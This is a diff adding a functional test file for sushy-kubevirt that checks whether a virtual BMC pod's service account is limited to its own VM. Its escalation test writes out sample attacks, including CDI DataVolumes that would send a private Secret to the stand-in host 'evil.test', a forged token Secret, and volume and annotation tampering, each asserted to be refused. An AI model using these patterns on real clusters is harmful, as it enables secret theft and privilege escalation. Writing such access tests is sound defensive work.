@@ -1,0 +1,325 @@
+# SPDX-License-Identifier: Apache-2.0
+"""What the account of a BMC's pod can do.
+
+Nothing of it is not needed, and what it may write gives it nothing else.
+"""
+
+import json
+
+import yaml
+
+from sushy_kubevirt.kubevirt import cluster
+from sushy_kubevirt.kubevirt import connection
+from sushy_kubevirt.kubevirt import media
+from sushy_kubevirt.kubevirt import options
+from sushy_kubevirt.kubevirt import power
+from tests.functional import accesscase
+from tests.functional import imageserver
+from tests.functional import machines
+from tests.functional import operator
+from tests.functional import sandbox
+from tests.functional import webserver
+
+R = power.ResetType
+
+# What a Role cannot name, and gives all the same (see rights).
+UNNAMED = {('create', 'events'), ('list', 'events'), ('delete', 'events'),
+           ('create', 'uploadtokenrequests.upload.cdi.kubevirt.io')}
+
+
+class PodAccountTestCase(accesscase.AccessTestCase):
+    """The account of a BMC's pod, of an operator that knows CDI's proxy."""
+
+    RUNS = False
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.images = cls.share(imageserver.ImageServer())
+        config = cls.sandbox.request(
+            'GET', '/apis/cdi.kubevirt.io/v1beta1/cdiconfigs/config',
+            expect=200).json()
+        bundle = cls.sandbox.get('configmaps',
+                                 'cdi-uploadproxy-signer-bundle', 'cdi')
+        cls.proxy_ca = bundle['data']['ca-bundle.crt']
+        path = cls.sandbox.kubeconfig.with_name('proxy.pem')
+        path.write_text(cls.proxy_ca)
+        cls.operator = cls.share(operator.Operator(cls.account, (
+            '--upload-proxy-url', config['status']['uploadProxyURL'],
+            '--upload-proxy-ca', path)))
+
+    def who(self, name):
+        return 'system:serviceaccount:%s:%s' % (self.namespace, name)
+
+    def ask(self, bmc, method, path, body=None, content='application/json'):
+        """A request with the token of a BMC's pod."""
+        config = yaml.safe_load(self.sandbox.account(
+            bmc.base, self.namespace).read_text())
+        return self.sandbox.request(
+            method, path, headers={
+                'Authorization': 'Bearer ' + config['users'][0]['user'][
+                    'token'], 'Content-Type': content},
+            data=None if body is None else json.dumps(body))
+
+    def alone(self, bmc):
+        """A process as that in the pod, with the account of the pod."""
+        made = cluster.Cluster(
+            connection.Connection.from_options(str(
+                self.sandbox.account(bmc.base, self.namespace))),
+            vm='%s/%s' % (self.namespace, bmc.name),
+            options=options.Options(
+                gates_seconds=0, media=options.MediaOptions(
+                    allow_loopback=True)))
+        self.addCleanup(made.close)
+        made.wait_ready()
+        return made.machine('%s/%s' % (self.namespace, bmc.name))
+
+    def work(self, box):
+        """Do all that a BMC does."""
+        box.works()
+        box.ipmi('power', 'on')
+        self.sandbox.wait_running('box', self.namespace)
+        self.services(box, self.system(box))
+        machine = self.alone(box)
+        for reset in (R.PAUSE, R.RESUME, R.FORCE_RESTART, R.FORCE_OFF):
+            machine.reset(reset)
+        self.sandbox.wait_stopped('box', self.namespace)
+        self.media(box, machine)
+        self.rarely(machine)
+
+    def post(self, box, path, **body):
+        answer = box.curl(path, '-X', 'POST', '-H', 'Content-Type: '
+                          'application/json', '-d', json.dumps(body))
+        self.assertLess(answer.code, 300, answer.text)
+
+    def services(self, box, system):
+        """What is kept of the services, and the log of the system."""
+        self.assertLess(box.curl(
+            '/redfish/v1/EventService', '-X', 'PATCH', '-H', 'Content-Type: '
+            'application/json', '-d', '{"DeliveryRetryAttempts": 4}').code,
+            300)
+        log = system + '/LogServices/Events'
+        self.until('log', lambda: box.curl(log + '/Entries').json()[
+            'Members@odata.count'] > 0, True)
+        self.post(box, log + '/Actions/LogService.ClearLog')
+
+    def media(self, box, machine):
+        machine.insert_media('Cd', media.Source(
+            self.images.url + '/private/a.iso',
+            username=self.images.USER, password=self.images.PASSWORD),
+            wait=True)
+        machine.eject_media('Cd')
+        made = [machine.add_media_certificate('Cd', text) for text in (
+            self.proxy_ca, box.trust().read_text())]
+        # With nothing known beforehand, as after a start.
+        self.assertEqual(2, len(self.alone(box).media_certificates('Cd')))
+        for one in made:
+            machine.delete_media_certificate('Cd', one.id)
+        # The pod itself uploads one.
+        device = self.system(box) + '/VirtualMedia/Cd'
+        images = self.useFixture(imageserver.ImageServer(self.here))
+        self.post(box, device + '/Actions/VirtualMedia.InsertMedia',
+                  Image=images.url + '/b.iso', TransferMethod='Upload')
+        self.until('there', lambda: [
+            (set(one['spec']['source']), one['status'].get('phase'))
+            for one in self.sandbox.list('datavolumes', self.namespace)],
+            [({'upload'}, 'Succeeded')])
+        self.post(box, device + '/Actions/VirtualMedia.EjectMedia')
+
+    def system(self, box):
+        return '/redfish/' + box.url().partition('/redfish/')[2]
+
+    def rarely(self, machine):
+        """What few VMs need."""
+        def patch(name, **spec):
+            self.sandbox.patch('virtualmachines', name, {'spec': spec},
+                               self.namespace)
+        # One that is being restarted: the start is taken back.
+        patch('box', runStrategy='Always')
+        self.sandbox.wait_running('box', self.namespace)
+        self.sandbox.do('box', 'restart', namespace=self.namespace)
+        machine.reset(R.FORCE_OFF)
+        self.sandbox.wait_stopped('box', self.namespace)
+        # One that runs once, and has run.
+        self.vm('once', 'Once')
+        once = self.alone(self.bmc('once', 'once', 'once-bmc').ready())
+        self.sandbox.wait_running('once', self.namespace)
+        self.sandbox.guest_does('once', 'shutdown', self.namespace)
+        self.sandbox.wait('virtualmachineinstances', 'once', lambda vmi: (
+            vmi and vmi['status']['phase'] == 'Succeeded'), self.namespace)
+        once.reset(R.ON)
+        self.sandbox.wait_running('once', self.namespace)
+        # One of an instance type.
+        self.sandbox.request(
+            'POST', '/apis/instancetype.kubevirt.io/v1beta1/namespaces/%s/'
+            'virtualmachineinstancetypes' % self.namespace, {
+                'apiVersion': 'instancetype.kubevirt.io/v1beta1',
+                'kind': 'VirtualMachineInstancetype',
+                'metadata': {'name': 'small'}, 'spec': {
+                    'cpu': {'guest': 1}, 'memory': {'guest': '2Gi'}}},
+            expect=201)
+        small = {'kind': 'VirtualMachineInstancetype', 'name': 'small'}
+        patch('box', instancetype=small, template={'spec': {'domain': {
+            'cpu': None, 'memory': None, 'resources': None}}})
+        self.until('sizes', lambda: machine.inventory().memory_bytes, 2 << 30)
+
+    def test_it_has_what_it_uses(self):
+        self.here = webserver.own_address()
+        if self.here is None:
+            self.skipTest('only loopback: a BMC takes nothing from there')
+        vm = machines.vm('box', 'Halted', self.namespace)
+        vm['spec']['template']['metadata']['annotations'] = {
+            'sandbox.sushy-kubevirt/ignore-acpi': 'true'}
+        # The installer that the VM comes with is not to be in the way.
+        del vm['spec']['template']['spec']['volumes'][1]
+        self.sandbox.create('virtualmachines', vm, self.namespace)
+        box = self.bmc(virtualMedia={
+            'allowedHosts': [self.here]}).ready()
+        self.work(box)
+        self.nothing_refused()
+        mine = self.can(self.user(box.base))
+        # All is about this VM.
+        unnamed = {what for what, names in mine.items() if not names}
+        self.assertEqual(UNNAMED, unnamed)
+        for what, names in mine.items():
+            self.assertEqual([], [one for one in names if one != 'box'
+                                  and not one.startswith('box-bmc-')], what)
+        used = self.used(self.who(box.base)) | self.used(self.who(
+            'once-virtbmc'))
+        self.assertEqual([], sorted(set(mine) - used))
+
+    def test_it_reads_nobody_elses(self):
+        self.bmc(name='other', vm='other', secret='other-bmc').ready()
+        box = self.bmc().ready()
+        vms = sandbox.path('virtualmachines', namespace=self.namespace)
+        core = '/api/v1/namespaces/%s/' % self.namespace
+        cdi = '/apis/cdi.kubevirt.io/v1beta1/namespaces/%s/' % self.namespace
+        for path in vms + '/box', core + 'secrets/box-bmc-state':
+            self.assertEqual(200, self.ask(box, 'GET', path).status_code)
+        for method, path, *body in (
+                ('GET', vms + '/other'), ('GET', vms), ('DELETE', vms),
+                ('GET', vms + '?watch=true'),
+                ('GET', vms.replace('machines', 'machineinstances')),
+                ('GET', vms + '?fieldSelector=metadata.name%3Dother'),
+                ('GET', '/apis/kubevirt.io/v1/virtualmachines'),
+                ('GET', '/apis/bmc.kubevirt.io/v1beta1/namespaces/%s/'
+                 'virtualmachinebmcs' % self.namespace),
+                ('DELETE', vms + '/box'),
+                ('GET', core + 'secrets'),
+                ('GET', core + 'secrets/other-bmc-state'),
+                ('GET', core + 'secrets/other-virtbmc-tls'),
+                ('GET', core + 'secrets/box-bmc'),
+                ('GET', core + 'secrets/box-virtbmc-tls'),
+                ('GET', '/api/v1/namespaces/%s/secrets/sushy-kubevirt-ca'
+                 % operator.NAMESPACE),
+                ('POST', core + 'secrets', {'metadata': {'name': 'mine'}}),
+                ('POST', core + 'configmaps', {'metadata': {'name': 'm'}}),
+                ('GET', core + 'configmaps/box-virtbmc'),
+                ('GET', core + 'pods'), ('GET', cdi + 'datavolumes'),
+                ('POST', cdi + 'datavolumes', {'metadata': {'name': 'm'}}),
+                ('POST', core + 'serviceaccounts/box-virtbmc/token', {}),
+                ('POST', core + 'serviceaccounts/default/token', {}),
+                ('GET', '/apis/rbac.authorization.k8s.io/v1/namespaces/%s/'
+                 'roles/box-virtbmc' % self.namespace),
+                ('GET', '/sandbox/stats')):
+            self.assertEqual(403, self.ask(
+                box, method, path, *body).status_code, (method, path))
+
+    def test_what_it_can_write_gives_it_nothing(self):
+        """The attacks that rights alone would let pass."""
+        box = self.bmc().ready()
+        self.kubectl('create', 'secret', 'generic', 'private',
+                     '--from-literal=a=b')
+        uid = self.sandbox.vm('box', self.namespace)['metadata']['uid']
+        vms = sandbox.path('virtualmachines', 'box', self.namespace)
+
+        def attack(plural, obj):
+            return self.ask(
+                box, 'PATCH', sandbox.path(plural, obj['metadata']['name'],
+                                           self.namespace)
+                + '?fieldManager=evil', obj, 'application/apply-patch+yaml'
+            ).json()['message']
+
+        def patch(*operations, sub=''):
+            return self.ask(box, 'PATCH', vms + sub, operations,
+                            sandbox.JSON_PATCH).json()['message']
+
+        # The token of another account.
+        self.assertIn('for servers of images only', attack('secrets', {
+            'apiVersion': 'v1', 'kind': 'Secret',
+            'type': 'kubernetes.io/service-account-token',
+            'metadata': {'name': 'box-bmc-cd-0', 'annotations': {
+                'kubernetes.io/service-account.name': 'default'}}}))
+        # A Secret of others, or a volume, by way of CDI.
+        http = {'url': 'http://evil.test/'}
+        volume = {'apiVersion': 'cdi.kubevirt.io/v1beta1',
+                  'kind': 'DataVolume', 'metadata': {'name': 'box-bmc-cd-0'}}
+        storage = {'resources': {'requests': {'storage': '1Gi'}}}
+        for said, source, notes in (
+                ('no Secret as a header', {'http': {
+                    **http, 'secretExtraHeaders': ['private']}}, {}),
+                ("DataVolume's own Secret", {'http': {
+                    **http, 'secretRef': 'private'}}, {}),
+                ('from HTTP or by upload', {'pvc': {
+                    'name': 'root', 'namespace': self.namespace}}, {}),
+                ('nothing by annotations', {'http': http}, {
+                    'cdi.kubevirt.io/storage.import.secretExtraHeaders.0':
+                        'private'})):
+            made = json.loads(json.dumps(volume))
+            made['metadata']['annotations'] = notes
+            made['spec'] = {'source': source, 'storage': storage}
+            self.assertIn(said, attack('datavolumes', made))
+        # Or of the guest.
+        volumes = '/spec/template/spec/volumes/-'
+        for value in ({'secret': {'secretName': 'private'}},
+                      {'serviceAccount': {'serviceAccountName': 'default'}},
+                      {'persistentVolumeClaim': {'claimName': 'other'}},
+                      {'configMap': {'name': 'other'}},
+                      {'dataVolume': {'name': 'other-bmc-cd-0'}}):
+            self.assertIn('adds no volumes', patch(
+                {'op': 'add', 'path': volumes, 'value': {
+                    'name': 'x', **value}},
+                {'op': 'add', 'path':
+                 '/spec/template/spec/domain/devices/disks/-',
+                 'value': {'name': 'x', 'disk': {'bus': 'virtio'}}}))
+        self.assertIn('has KubeVirt make no DataVolumes', patch(
+            {'op': 'add', 'path': volumes, 'value': {
+                'name': 'x', 'dataVolume': {'name': 'box-bmc-x'}}},
+            {'op': 'add', 'path': '/spec/dataVolumeTemplates', 'value': [{
+                'metadata': {'name': 'box-bmc-x'}, 'spec': {
+                    'storage': storage, 'source': {'http': {
+                        **http, 'secretExtraHeaders': ['private']}}}}]}))
+        for said, path, value in (
+                ('gives its VM to nobody', '/metadata/annotations', {
+                    'bmc.kubevirt.io/allow-from': 'evil'}),
+                ('no labels', '/spec/template/metadata/annotations', {
+                    'hooks.kubevirt.io/hookSidecars': '[]'}),
+                ('whether its VM stays', '/metadata/ownerReferences', [{
+                    'apiVersion': 'v1', 'kind': 'ConfigMap', 'name': 'none',
+                    'uid': uid}])):
+            self.assertIn(said, patch(
+                {'op': 'add', 'path': path, 'value': value}))
+        self.assertIn('no more', patch({
+            'op': 'add', 'path': '/status/volumeRequests', 'value': [{
+                'addVolumeOptions': {
+                    'name': 'x', 'disk': {'disk': {}}, 'volumeSource': {
+                        'persistentVolumeClaim': {
+                            'claimName': 'other'}}}}]}, sub='/status'))
+        self.assertIn("guest's credentials, account", patch({
+            'op': 'add', 'path': '/spec/template/spec/serviceAccountName',
+            'value': 'default'}))
+        # What is known of others.
+        events = sandbox.path('events', namespace=self.namespace)
+        found = self.ask(box, 'GET', events).json()['items']
+        theirs = next(one for one in found
+                      if one['involvedObject']['kind'] == 'Pod')
+        for method, path, *body in (
+                ('DELETE', '%s/%s' % (events, theirs['metadata']['name'])),
+                ('POST', events, {**theirs, 'metadata': {'name': 'x'}})):
+            self.assertIn('entries of its own log', self.ask(
+                box, method, path, *body).json()['message'])
+        self.assertEqual([], [
+            one for one in self.kubectl.names('secrets,datavolumes')
+            if 'box-bmc-cd' in one])
+        # And it still does its work.
+        box.works()
